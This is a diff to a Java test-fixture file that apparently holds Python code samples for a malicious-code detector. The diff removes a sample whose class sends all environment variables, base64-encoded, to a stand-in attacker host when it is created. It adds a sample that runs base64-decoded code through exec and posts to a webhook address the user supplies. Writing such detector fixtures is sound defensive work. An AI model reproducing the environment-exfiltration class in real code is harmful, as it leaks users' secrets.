@@ -10,21 +10,6 @@ final class PythonLeavings {
   static List<Sample> all() {
     return List.of(
         Sample.imported(
-            "an object sends the whole environment when it is made",
-            """
-            from os import environ
-            import base64, requests
-            class Config(dict):
-                def __init__(self, *a, **k):
-                    super(Config, self).__init__(*a, **k)
-                    self._send()
-                def _send(self):
-                    text = ''
-                    for _, value in environ.items():
-                        text += value + ' '
-                    requests.get('https://theft.example/h/' + base64.b64encode(text.encode()).decode())
-            """),
-        Sample.imported(
             "decoded code tells a messenger when a client is made",
             """
             import base64, functools
@@ -149,6 +134,17 @@ final class PythonLeavings {
             import os, subprocess
             def run(command):
                 return subprocess.run(command, env={**os.environ, 'LC_ALL': 'C'})
+            """),
+        Sample.imported(
+            "decoded code prints, and what tells a messenger is told by the user",
+            """
+            import base64, requests
+            exec_ = exec
+            def banner():
+                exec_(base64.b64decode('cHJpbnQoJ3NhbXBsZScp'))
+            def notify(hook, text):
+                requests.post(hook, json={'content': text})
+            HELP = 'give it the address of a hook: https://discord.com/api/webhooks/…'
             """),
         Sample.imported(
             "a reporter sends the variables of its service",
